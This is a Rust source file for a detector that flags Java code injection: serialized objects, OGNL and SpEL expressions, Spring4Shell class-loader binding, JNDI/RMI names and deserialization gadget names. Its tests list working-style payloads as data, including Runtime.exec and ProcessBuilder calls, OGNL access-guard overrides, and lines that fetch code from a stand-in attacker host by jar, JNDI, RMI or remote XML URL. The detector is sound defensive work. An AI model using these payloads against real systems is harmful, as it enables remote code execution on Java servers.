//! Java code injection: class names, method chains and serialized objects that reach a Java runtime.
//!
//! Part of the `log4shell` class (a Java application's other injection routes). An attacker who reaches a Java
//! deserializer, an expression language (OGNL in Struts, SpEL in Spring, JSP EL) or a reflective binder sends
//! fully-qualified class names (`java.lang.Runtime`), method chains (`getRuntime().exec(…)`), gadget classes of the
//! known deserialization chains (Commons Collections' `InvokerTransformer`…), or a serialized object itself
//! (`ac ed 00 05`, `rO0AB…` in base64). Prose about Java ("java lang courses", "Java: Basics of JavaScript") has no
//! dotted package chain, no call and no serialized stream, so it stays clean.
//!
//! The value is read in one pass as dotted chains of identifiers (`java.lang.Runtime`, `class.module.classLoader`),
//! each judged by its segments and the bytes around it; base64 runs are decoded in place at the four bit
//! alignments a fragment can have, looking for the serialization magic and the gadget names.
//!
//! - **Low**: unmistakable code: a raw serialized stream (`ac ed 00 05`), `getRuntime().exec(`,
//!   `new ProcessBuilder(`, OGNL's `#_memberAccess`/`OgnlContext` and static calls (`@java.lang…`), SpEL's
//!   `T(java.…)`, Spring4Shell's `class.module.classLoader` binding.
//! - **Medium**: also JDK classes an exploit uses (`java.lang.*`, `java.io.*`, `javax.script`, `javax.naming`,
//!   `com.sun.*`, `org.apache.commons…`, `org.omg…`, `com.opensymphony.xwork2`), `ProcessBuilder`, gadget classes,
//!   `Runtime`/`ProcessBuilder` beside a `java.` name, an unmarshaller or a closure gadget, reflection calls
//!   (`Class.forName(`, `.getMethod(`), `.getClass(` in a value opening `${`/`#{`/`%{`, class loaders, script
//!   engines, Spring XML application contexts, JNDI and RMI names (`rmi://`, `jndi:`), JSP tags, a serialized object
//!   in base64 or hex, gadget names in base64, a JSP file name with trailing dots or spaces (Windows drops them).
//! - **High**: also any `java.`/`javax.` package chain, exception names, `org.springframework.` names, `.getClass(`,
//!   `.jsp` file names (not links), a gzip stream in base64 (`H4sI`: what it holds cannot be told without inflating
//!   it).

use super::{Sensitivity, Subject};

/// What a value shows, strongest first; the detector compares it with the sensitivity asked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Strength {
    /// Unmistakable: reported at every level.
    Low,
    /// Reported at Medium and High.
    Medium,
    /// Reported at High only.
    High,
    /// Not reported.
    None,
}

/// Whether `subject` carries Java code injection or a serialized Java object at `sensitivity`.
pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
    let wanted = match sensitivity {
        Sensitivity::Low => Strength::Low,
        Sensitivity::Medium => Strength::Medium,
        Sensitivity::High => Strength::High,
    };
    // A raw serialized stream (NULs kept: only `raw` has them).
    if memchr::memchr_iter(MAGIC[0], subject.raw).any(|at| subject.raw.get(at..at + MAGIC.len()) == Some(&MAGIC[..])) {
        return true;
    }
    if scan_names(subject.lower) <= wanted {
        return true;
    }
    // Encoded forms are never reported at Low.
    wanted != Strength::Low && scan_encoded(subject.raw) <= wanted
}

/// The Java serialization stream header: magic `0xaced` and version 5.
const MAGIC: [u8; 4] = [0xac, 0xed, 0x00, 0x05];

/// Identifier bytes of a (lower-cased) Java name.
fn is_ident(byte: u8) -> bool {
    byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'_'
}

/// What one identifier means to a Java exploit.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Nothing Java-specific.
    Other,
    /// `Runtime`: an English word too, so only beside other Java signs.
    Runtime,
    /// `getRuntime`.
    GetRuntime,
    /// A class that starts processes.
    ProcessBuilder,
    /// `exec`/`start`: code only right after `getRuntime()`.
    Exec,
    /// Classes of the well-known deserialization gadget chains.
    Gadget,
    /// Gadget names that are also (misspelt) English words: only with other Java signs.
    WeakGadget,
    /// OGNL's context and access guards: only exploits name them.
    Ognl,
    /// Class loaders: code loaded from an attacker's URL.
    ClassLoader,
    /// `javax.script` engines: any script run as Java.
    ScriptEngine,
    /// Reflection calls that reach any class or method.
    Reflection,
    /// `getClass`: the way out of an expression language's sandbox.
    GetClass,
    /// XML/JSON unmarshallers and their base64 fields.
    Unmarshaller,
    /// Spring application contexts that load bean definitions from a URL.
    SpringContext,
    /// A JSP file extension.
    Jsp,
}

/// What the (lower-case) identifier `segment` names.
fn kind(segment: &[u8]) -> Kind {
    match segment {
        b"runtime" => Kind::Runtime,
        b"getruntime" => Kind::GetRuntime,
        b"processbuilder" | b"processimpl" | b"unixprocess" => Kind::ProcessBuilder,
        b"exec" | b"start" => Kind::Exec,
        b"invokertransformer"
        | b"instantiatetransformer"
        | b"clonetransformer"
        | b"chainedtransformer"
        | b"constanttransformer"
        | b"instantiatefactory"
        | b"prototypeclonefactory"
        | b"prototypeserializationfactory"
        | b"templatesimpl"
        | b"annotationinvocationhandler"
        | b"jdbcrowsetimpl"
        | b"badattributevalueexpexception"
        | b"beancomparator"
        | b"mozillainterpreter" => Kind::Gadget,
        b"forclosure" | b"whileclosure" | b"lazymap" => Kind::WeakGadget,
        b"_memberaccess" | b"ognlcontext" | b"ognlutil" | b"default_member_access" => Kind::Ognl,
        b"classloader" | b"urlclassloader" | b"getclassloader" | b"getcontextclassloader" | b"definingclassloader" => {
            Kind::ClassLoader
        }
        b"scriptenginemanager" | b"getenginebyname" | b"scriptengine" => Kind::ScriptEngine,
        b"forname"
        | b"getmethod"
        | b"getdeclaredmethod"
        | b"getdeclaredfield"
        | b"getdeclaredconstructor"
        | b"getconstructor"
        | b"newinstance"
        | b"defineclass"
        | b"setaccessible"
        | b"loadclass" => Kind::Reflection,
        b"getclass" => Kind::GetClass,
        b"base64data" => Kind::Unmarshaller,
        b"filesystemxmlapplicationcontext" | b"classpathxmlapplicationcontext" => Kind::SpringContext,
        b"jsp" | b"jspx" | b"jspf" => Kind::Jsp,
        _ if segment.ends_with(b"unmarshaller") => Kind::Unmarshaller,
        _ => Kind::Other,
    }
}

/// Signs gathered over the whole value, judged together at its end.
#[derive(Default)]
struct Signs {
    java_name: bool,
    runtime: bool,
    process_builder: bool,
    weak_gadget: bool,
    unmarshaller: bool,
    get_runtime_call: bool,
}

/// One pass over `lower` by dotted chains of identifiers (`java.lang.Runtime`): the strongest sign found.
fn scan_names(lower: &[u8]) -> Strength {
    let mut best = Strength::None;
    let mut signs = Signs::default();
    let mut pos = 0;
    while let Some(&byte) = lower.get(pos) {
        if byte == b'<' {
            if lower.get(pos + 1..pos + 3) == Some(b"%@") || lower.get(pos + 1..pos + 5) == Some(b"jsp:") {
                best = best.min(Strength::Medium);
            }
            pos += 1;
            continue;
        }
        if !is_ident(byte) {
            pos += 1;
            continue;
        }
        if byte.is_ascii_digit() {
            // A number (`537` of `537.36`): no Java name starts with a digit.
            while lower.get(pos).is_some_and(|&b| is_ident(b)) {
                pos += 1;
            }
            continue;
        }
        // A short word on its own (most of prose) names nothing in the tables: skipped without judging it.
        let mut word_end = pos;
        while lower.get(word_end).is_some_and(|&b| is_ident(b)) {
            word_end += 1;
        }
        if word_end - pos < 7 && byte != b'j' && !matches!(lower.get(word_end), Some(b'.' | b'(' | b':')) {
            pos = word_end;
            continue;
        }
        let (end, found) = chain(lower, pos, &mut signs);
        best = best.min(found);
        if best == Strength::Low {
            return best;
        }
        pos = end;
    }
    if (signs.runtime || signs.process_builder) && (signs.java_name || signs.unmarshaller || signs.weak_gadget) {
        best = best.min(Strength::Medium);
    }
    if signs.weak_gadget && signs.java_name {
        best = best.min(Strength::Medium);
    }
    best
}

/// The first segments of a chain, which name its package.
#[derive(Default)]
struct Head<'a> {
    segments: [&'a [u8]; 3],
    count: usize,
}

impl<'a> Head<'a> {
    fn get(&self, index: usize) -> &'a [u8] {
        self.segments.get(index).copied().unwrap_or(&[])
    }
}

/// Reads the chain of identifiers starting at `start` and judges it: where it ends, and what it shows. Updates the
/// value-wide `signs`.
fn chain(lower: &[u8], start: usize, signs: &mut Signs) -> (usize, Strength) {
    let before = start.checked_sub(1).and_then(|at| lower.get(at)).copied();
    let mut best = Strength::None;
    let mut head = Head::default();
    let mut previous: &[u8] = &[];
    let mut pos = start;
    loop {
        let segment_start = pos;
        while lower.get(pos).is_some_and(|&b| is_ident(b)) {
            pos += 1;
        }
        let segment = lower.get(segment_start..pos).unwrap_or(&[]);
        if let Some(slot) = head.segments.get_mut(head.count) {
            *slot = segment;
        }
        head.count += 1;
        let last = !(lower.get(pos) == Some(&b'.') && lower.get(pos + 1).is_some_and(|&b| is_ident(b)));
        let call = last && lower.get(pos) == Some(&b'(');
        let dotted = head.count >= 2 || !last;
        // Spring4Shell binds `class.module.classLoader…` (or `class.classLoader`) from request parameters.
        if previous == b"class" && matches!(segment, b"module" | b"classloader" | b"protectiondomain") {
            return (pos, Strength::Low);
        }
        // Every name of the table is 7 bytes or longer, but the short ones judged in a chain, a call or a file name.
        let judged = segment.len() >= 7 || dotted || call || segment.first() == Some(&b'j');
        let found = match if judged { kind(segment) } else { Kind::Other } {
            Kind::Other => Strength::None,
            Kind::Runtime => {
                signs.runtime = true;
                Strength::None
            }
            Kind::GetRuntime => {
                signs.runtime = true;
                if call {
                    signs.get_runtime_call = true;
                    Strength::Medium
                } else {
                    Strength::None
                }
            }
            Kind::ProcessBuilder => {
                signs.process_builder = true;
                let new = segment_start >= 4 && lower.get(segment_start - 4..segment_start) == Some(b"new ");
                if new || call {
                    Strength::Low
                } else {
                    Strength::Medium
                }
            }
            // `getRuntime().exec(`: the call chain goes on past `()` with `.exec(`.
            Kind::Exec if head.count == 1 && call && before == Some(b'.') && signs.get_runtime_call => Strength::Low,
            Kind::Exec => Strength::None,
            Kind::Gadget | Kind::ScriptEngine | Kind::SpringContext => Strength::Medium,
            Kind::WeakGadget => {
                signs.weak_gadget = true;
                Strength::None
            }
            Kind::Ognl => return (pos, Strength::Low),
            Kind::ClassLoader if dotted || call => Strength::Medium,
            Kind::ClassLoader => Strength::High,
            Kind::Reflection if call && (dotted || before == Some(b'.')) => Strength::Medium,
            Kind::Reflection => Strength::None,
            Kind::GetClass if call && (dotted || before == Some(b'.')) => {
                if in_expression(lower) {
                    Strength::Medium
                } else {
                    Strength::High
                }
            }
            Kind::GetClass => Strength::None,
            Kind::Unmarshaller => {
                signs.unmarshaller = true;
                Strength::None
            }
            Kind::Jsp if last => jsp_file(lower, start, segment_start, pos, dotted),
            Kind::Jsp => Strength::None,
        };
        best = best.min(found);
        previous = segment;
        if last {
            break;
        }
        pos += 1;
    }
    (pos, best.min(judge_head(lower, start, before, pos, &head, signs)))
}

/// Whether `lower` opens an expression (`${`, `#{`, `%{`): a `.getClass(` there is evaluated code.
fn in_expression(lower: &[u8]) -> bool {
    lower.windows(2).any(|w| matches!(w, [b'$' | b'#' | b'%', b'{']))
}

/// Common top-level domains: a two-segment `java.com` is a host name.
const TOP_LEVEL_DOMAINS: &[&[u8]] = &[
    b"com", b"net", b"org", b"io", b"dev", b"info", b"co", b"app", b"de", b"fr", b"uk", b"nl", b"ru", b"jp", b"cn",
    b"in", b"us", b"eu", b"me", b"tv", b"biz", b"edu", b"gov", b"es", b"it", b"br", b"au", b"ca", b"ch", b"se",
];

/// Judges a chain by its package (its first segments), `lower[start..end]`, preceded by `before`.
fn judge_head(
    lower: &[u8],
    start: usize,
    before: Option<u8>,
    end: usize,
    head: &Head<'_>,
    signs: &mut Signs,
) -> Strength {
    let (first, second, third) = (head.get(0), head.get(1), head.get(2));
    if head.count == 1 {
        // JNDI and RMI names outside a Log4j lookup: `rmi://host/obj`, `jndi:ldap://…`, `corbaname:…`.
        let rest = lower.get(end..).unwrap_or(&[]);
        if rest.first() != Some(&b':') {
            return Strength::None;
        }
        let jndi = match first {
            b"rmi" | b"iiop" => rest.starts_with(b"://"),
            b"jndi" | b"corbaname" | b"corbaloc" => rest.starts_with(b":"),
            _ => false,
        };
        return if jndi { Strength::Medium } else { Strength::None };
    }
    // `java.com`, `javax.io`: a web site, not a package.
    let site = head.count == 2 && TOP_LEVEL_DOMAINS.contains(&second);
    if (first == b"java" || first == b"javax") && !site {
        signs.java_name = true;
        // OGNL static access (`@java.lang.Runtime@getRuntime()`) and SpEL types (`T(java.lang.Runtime)`).
        let spel = before == Some(b'(')
            && start >= 2
            && lower.get(start - 2) == Some(&b't')
            && !start.checked_sub(3).and_then(|at| lower.get(at)).is_some_and(|&b| is_ident(b));
        if before == Some(b'@') || spel {
            return Strength::Low;
        }
        let last = lower.get(start..end).and_then(|c| c.rsplit(|&b| b == b'.').next()).unwrap_or(&[]);
        let exception = last.ends_with(b"exception") || last.ends_with(b"error");
        let dangerous = if first == b"java" {
            matches!(second, b"lang" | b"io" | b"nio" | b"net" | b"rmi" | b"beans")
        } else {
            matches!(second, b"script" | b"naming" | b"management" | b"el")
        };
        return if dangerous && head.count >= 3 && !exception { Strength::Medium } else { Strength::High };
    }
    let package = match (first, second) {
        (b"com", b"sun") | (b"org", b"omg") | (b"com", b"opensymphony") => head.count >= 3,
        (b"sun", b"misc" | b"reflect" | b"rmi") => true,
        (b"org", b"apache") => matches!(third, b"commons" | b"xalan" | b"bcel"),
        (b"org", b"codehaus") => third == b"groovy",
        _ => false,
    };
    if package {
        Strength::Medium
    } else if first == b"org" && second == b"springframework" {
        Strength::High
    } else {
        Strength::None
    }
}

/// A JSP file name `lower[start..end]` (its extension at `extension`) ending the value: with trailing dots or
/// spaces, or a space before the extension (an upload evading an extension check: Windows drops them), at Medium;
/// plain at High.
fn jsp_file(lower: &[u8], start: usize, extension: usize, end: usize, dotted: bool) -> Strength {
    let tail = lower.get(end..).unwrap_or(&[]);
    if !tail.iter().all(|&b| b == b'.' || b == b' ') {
        return Strength::None;
    }
    // `shell. jsp`: a file name of one word, a dot, spaces, the extension.
    let head = lower.get(..start).unwrap_or(&[]);
    let name = head.trim_ascii_end();
    let spaced = !dotted
        && name.len() < head.len()
        && name.strip_suffix(b".").is_some_and(|n| !n.is_empty() && !n.contains(&b' '));
    if (dotted && !tail.is_empty()) || spaced {
        Strength::Medium
    } else if dotted && extension > start && !head.contains(&b'/') {
        // A file name (`shell.jsp`), not a link to a page (`https://shop.test/cart.jsp`).
        Strength::High
    } else {
        Strength::None
    }
}

/// The value of a base64 digit (standard or URL-safe alphabet).
fn base64_digit(byte: u8) -> Option<u8> {
    match byte {
        b'A'..=b'Z' => Some(byte - b'A'),
        b'a'..=b'z' => Some(byte - b'a' + 26),
        b'0'..=b'9' => Some(byte - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// Decoded names a base64 fragment is reported for: 8 lower-case bytes of each (all of a shorter one) and the mask
/// of the rolling window they are compared with. The first is `runtime`, judged with the byte before it.
const SIGNATURES: [(u64, u64); 10] = [
    (pack(b"runtime"), mask(7)),
    (pack(b"essbuild"), mask(8)), // processbuilder
    (pack(b"okertran"), mask(8)), // invokertransformer
    (pack(b"clonetra"), mask(8)), // clonetransformer
    (pack(b"tiatetra"), mask(8)), // instantiatetransformer
    (pack(b"tiatefac"), mask(8)), // instantiatefactory
    (pack(b"peclonef"), mask(8)), // prototypeclonefactory
    (pack(b"peserial"), mask(8)), // prototypeserializationfactory
    (pack(b"forclosu"), mask(8)), // forclosure
    (pack(b"ileclosu"), mask(8)), // whileclosure
];

/// Whether a decoded byte ends one of [`SIGNATURES`]: most bytes are rejected with one lookup.
fn ends_signature(byte: u8) -> bool {
    matches!(byte, b'e' | b'd' | b'n' | b'a' | b'c' | b'f' | b'l' | b'u')
}

/// Whether the decoded `window` (its newest byte last) ends a signature: `runtime` only as a class name (after
/// `.`, `/`, `$` or binary), not as a word of encoded text or JSON (after a letter, digit, quote or space).
fn matches_signature(window: u64) -> bool {
    SIGNATURES.iter().enumerate().any(|(index, &(signature, m))| {
        window & m == signature && {
            let before = (window >> 56) as u8;
            index != 0 || !(before.is_ascii_alphanumeric() || matches!(before, b'"' | b'\'' | b' ' | b'_' | b'-'))
        }
    })
}

/// `bytes` (at most 8) packed big-endian into the low bytes of a u64, as the rolling window holds them.
const fn pack(bytes: &[u8]) -> u64 {
    let mut value = 0u64;
    let mut rest = bytes;
    while let [first, tail @ ..] = rest {
        value = (value << 8) | *first as u64;
        rest = tail;
    }
    value
}

/// A mask of the low `n` bytes.
const fn mask(n: u32) -> u64 {
    if n >= 8 {
        u64::MAX
    } else {
        (1u64 << (8 * n)) - 1
    }
}

/// Base64 and hex runs in `raw`: a serialized object's header, gadget names or `Runtime` inside them.
fn scan_encoded(raw: &[u8]) -> Strength {
    let mut best = Strength::None;
    let mut pos = 0;
    while pos < raw.len() {
        let start = pos;
        // Upper-case letters and digits: a third of base64 digits, few of a word's or a path's characters.
        let mut dense = 0;
        while let Some(&byte) = raw.get(pos) {
            if base64_digit(byte).is_none() {
                break;
            }
            dense += usize::from(byte.is_ascii_uppercase() || byte.is_ascii_digit());
            pos += 1;
        }
        // Every header form and every encoded name holds two capitals or digits; a word of prose does not.
        if pos - start >= 5 && dense >= 2 {
            if let Some(run) = raw.get(start..pos) {
                best = best.min(judge_run(run, dense * 5 >= run.len() && dense < run.len()));
                if best == Strength::Medium {
                    return best;
                }
            }
        }
        pos += 1;
    }
    best
}

/// One run of base64 digits; `decode` when it is dense enough in upper-case letters and digits to be
/// base64 rather than a word.
fn judge_run(run: &[u8], decode: bool) -> Strength {
    let mut best = Strength::None;
    // The serialization header encoded at each of the three byte alignments: `rO0AB`, `?ztAA[U-X]`, `s7QAF`; in hex
    // `aced0005`. Raw characters are kept in a rolling window.
    const FIVE: u64 = mask(5);
    const ALIGNED: u64 = pack(b"rO0AB");
    const TWO_OFF: u64 = pack(b"s7QAF");
    const ONE_OFF: u64 = pack(b"ztAA\0");
    const HEX: u64 = pack(b"aced0005");
    const LOWER: u64 = pack(b"\x20\x20\x20\x20\x20\x20\x20\x20");
    let mut window = 0u64;
    for &byte in run {
        window = (window << 8) | u64::from(byte);
        let last5 = window & FIVE;
        if last5 == ALIGNED
            || last5 == TWO_OFF
            || ((window & 0xff_ffff_ff00) == ONE_OFF && matches!(byte, b'U'..=b'X'))
            || (window | LOWER) == HEX
        {
            return Strength::Medium;
        }
    }
    if run.starts_with(b"H4sI") && run.len() >= 20 {
        best = Strength::High;
    }
    if run.len() < 10 || !decode {
        return best;
    }
    // Decoded at the four bit alignments a fragment's first digit can have in the original stream: (bits
    // pending, how many, decoded window).
    let mut phases = [(0u32, 0i32, 0u64), (0, -2, 0), (0, -4, 0), (0, -6, 0)];
    for &byte in run {
        let Some(digit) = base64_digit(byte) else { continue };
        for (acc, nbits, out) in phases.iter_mut() {
            *acc = ((*acc << 6) | u32::from(digit)) & 0x3fff;
            *nbits += 6;
            if *nbits >= 8 {
                *nbits -= 8;
                let decoded = ((*acc >> *nbits) & 0xff) as u8;
                let lower = decoded.to_ascii_lowercase();
                *out = (*out << 8) | u64::from(lower);
                if ends_signature(lower) && matches_signature(*out) {
                    return Strength::Medium;
                }
            }
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Place;
    use crate::token_analysis::test_rng::Rng;

    fn at(text: &[u8], sensitivity: Sensitivity) -> bool {
        let lower = text.to_ascii_lowercase();
        detect(&Subject::plain(text, &lower, Place::Json), sensitivity)
    }

    fn level(text: &str) -> Option<Sensitivity> {
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|&s| at(text.as_bytes(), s))
    }

    /// `bytes` in standard base64, with no padding (written here: tests may not depend on a codec's output).
    fn base64(bytes: &[u8]) -> String {
        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for group in bytes.chunks(3) {
            let n = group.iter().enumerate().fold(0u32, |n, (i, &b)| n | (u32::from(b) << (16 - 8 * i)));
            for i in 0..=group.len() {
                out.push(DIGITS[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        out
    }

    #[test]
    fn unmistakable_java_code_is_found_at_low() {
        for attack in [
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
            "@java.lang.System@getProperty('user.home')",
            "x = Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"uname\"})",
            "new ProcessBuilder(\"cat\", \"/etc/hosts\").start()",
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            "class.classLoader.URLs[0]=jar:http://attacker.test/x.jar!/",
        ] {
            assert_eq!(level(attack), Some(Sensitivity::Low), "{attack}");
        }
        let mut stream = vec![b'x'];
        stream.extend_from_slice(&MAGIC);
        stream.extend_from_slice(b"sr\x00\x11java.util.HashMap");
        assert!(at(&stream, Sensitivity::Low));
    }

    #[test]
    fn dangerous_classes_and_chains_are_found_at_medium() {
        for attack in [
            "java.io.FileOutputStream",
            "java.lang.reflect.Method",
            "java.lang.Thread",
            "javax.naming.InitialContext",
            "javax.script.ScriptEngine",
            "com.sun.rowset.JdbcRowSetImpl",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            "org.apache.commons.collections.functors",
            "org.codehaus.groovy.runtime.MethodClosure",
            "org.omg.CORBA.ORB",
            "com.opensymphony.xwork2.ActionContext",
            "sun.misc.Unsafe",
            "[\"java.net.URL\", \"http://attacker.test\"]",
            "java.Runtime",
            "java.something.ProcessBuilder",
            "ProcessBuilder",
            "InvokerTransformer",
            "runtime.forclosure",
            "runtime and a JAXBUnmarshaller",
            "''.getClass().forName('x')",
            "#{''.getClass()}",
            "Thread.currentThread().getContextClassLoader()",
            "new javax.script.ScriptEngineManager().getEngineByName('js')",
            "com.example.FileSystemXmlApplicationContext('http://attacker.test/x.xml')",
            "rmi://attacker.test:1099/Object",
            "jndi:ldap://attacker.test/a",
            "<jsp:scriptlet>out.println(1)</jsp:scriptlet>",
            "<%@ page import=\"java.util.*\" %>",
            "upload.jsp.",
            "upload.jspx  ",
            "upload. jsp",
        ] {
            assert_eq!(level(attack), Some(Sensitivity::Medium), "{attack}");
        }
    }

    #[test]
    fn serialized_objects_and_gadget_names_in_base64_are_found_at_medium() {
        let mut stream = MAGIC.to_vec();
        stream.extend_from_slice(b"sr\x00\x0ejava.lang.Long");
        // The header at each of the three byte alignments of a base64 stream.
        for prefix in [&b""[..], b"\x01", b"\x01\x02"] {
            let mut bytes = prefix.to_vec();
            bytes.extend_from_slice(&stream);
            let encoded = base64(&bytes);
            assert_eq!(level(&encoded), Some(Sensitivity::Medium), "{encoded}");
            assert_eq!(level(&format!("token={encoded}")), Some(Sensitivity::Medium), "{encoded}");
        }
        assert_eq!(level("0xACED00057372"), Some(Sensitivity::Medium));
        assert_eq!(level(&base64(b"\x00\x01Ljava/lang/Runtime;xp")), Some(Sensitivity::Medium));
        // `runtime` as a word of encoded text or JSON is not a class name.
        assert_eq!(level(&base64(b"{\"runtime\":\"python3.12\",\"memory\":512}")), None);
        assert_eq!(level(&base64(b"the runtime of the film")), None);
        // Names encoded behind a prefix of any length, read from any digit of the encoding.
        for name in [&b"Runtime"[..], b"ProcessBuilder", b"InvokerTransformer", b"WhileClosure"] {
            for prefix in 1..=3 {
                let mut bytes = b"\x01\x02/"[..prefix].to_vec();
                bytes.extend_from_slice(name);
                let encoded = base64(&bytes);
                for skip in 0..2 {
                    let fragment = &encoded[skip..];
                    assert_eq!(level(fragment), Some(Sensitivity::Medium), "{fragment}");
                }
            }
        }
    }

    #[test]
    fn weak_signs_are_found_at_high_only() {
        for attack in [
            "java.util.ArrayList",
            "java.lang.NullPointerException",
            "org.springframework.web.servlet",
            "upload.jsp",
            "classloader",
            "H4sIAAAAAAAAA6tWKkktLlGyUlAqS8wpTtVRSs7PS8tM",
            "obj.getClass()",
        ] {
            assert_eq!(level(attack), Some(Sensitivity::High), "{attack}");
        }
    }

    #[test]
    fn prose_and_ordinary_values_about_java_stay_clean() {
        for benign in [
            "java lang courses",
            "Java: Basics of JavaScript",
            "I love Java. Runtime errors are the worst",
            "Movie runtime: 142 minutes",
            "Download from www.java.com/en/download",
            "The process builder in our workflow tool",
            "house in forclosure, sold as is",
            "while closure of the road lasts",
            "java.com",
            "com.example.app",
            "org.example.widgets",
            "first class. Module two starts Monday",
            "Our class. Module 3",
            "she is world class.",
            "I learned jsp...",
            "see the jsp folder",
            "https://shop.example.com/cart/checkout.jsp",
            "Exec summary: start on Monday",
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
            "0xDEADBEEF",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "Café Java & Co, 12 Main St.",
            "rmi is a protocol; see rmi: notes",
        ] {
            assert_eq!(level(benign), None, "{benign}");
        }
    }

    #[test]
    fn arbitrary_bytes_never_panic_and_levels_nest() {
        let mut rng = Rng(0x1a_7a);
        let seeds: &[&[u8]] =
            &[b"java.lang.Runtime", b"rO0ABXNy", b"${T(java.lang.Runtime)}", b"class.module.x", b"a.jsp.. "];
        for round in 0..3000 {
            let mut value = seeds[round % seeds.len()].to_vec();
            for _ in 0..(round % 6) {
                let at = (rng.next() as usize) % (value.len() + 1);
                value.insert(at, (rng.next() & 0xff) as u8);
            }
            let [low, medium, high] = [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].map(|s| at(&value, s));
            assert!((!low || medium) && (!medium || high), "{:?}", String::from_utf8_lossy(&value));
        }
    }
}
